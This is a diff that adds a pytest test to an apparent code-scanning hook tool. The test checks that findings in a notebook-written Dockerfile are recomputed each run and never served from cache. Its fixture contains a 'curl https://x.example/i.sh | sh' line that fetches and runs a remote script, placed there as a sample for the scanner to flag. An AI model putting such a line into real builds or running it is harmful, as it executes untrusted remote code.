@@ -476,3 +476,26 @@ def test_a_bundle_naming_a_file_outside_the_run_is_refused(cache: ResultCache, t
     assert cache.lookup_bundle(CODE, [probe], registry()) is None
     _forge(cache, key, {"format": 1, "key": key, "files": {probe.key: entry}, "notices": []})
     assert cache.lookup_bundle(CODE, [probe], registry()) is not None
+
+
+def test_a_file_whose_written_files_other_hooks_judge_is_not_cached(tmp_path: Path) -> None:
+    """A notebook's `%%writefile Dockerfile` is judged by the Dockerfile hook under its own policy
+    section (and `!pip install` by deps under the advisory snapshot): none of that is in the code
+    hook's key, so such a verdict is computed each run, never replayed."""
+    from hooks._core.runner import Target, scan_targets
+    from hooks._core.tail import TailContext
+
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
+    source = ["%%writefile Dockerfile\n", "FROM python\n", "RUN curl https://x.example/i.sh | sh\n"]
+    notebook = {"cells": [{**cell, "source": source}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    (repo / "build.ipynb").write_text(json.dumps(notebook))
+    context = TailContext(Policy(root=repo), registry())
+    runs = []
+    for _ in range(2):
+        cache = ResultCache.open(tmp_path / "cache")
+        found = scan_targets([Target(repo / "build.ipynb", "build.ipynb")], [CODE], context, select=False, cache=cache)
+        runs.append(sorted(f.rule_id for f in found.findings))
+        assert cache.stats.hits == 0
+    assert runs[0] == runs[1] and runs[0], "the written Dockerfile's findings come from the Dockerfile hook"
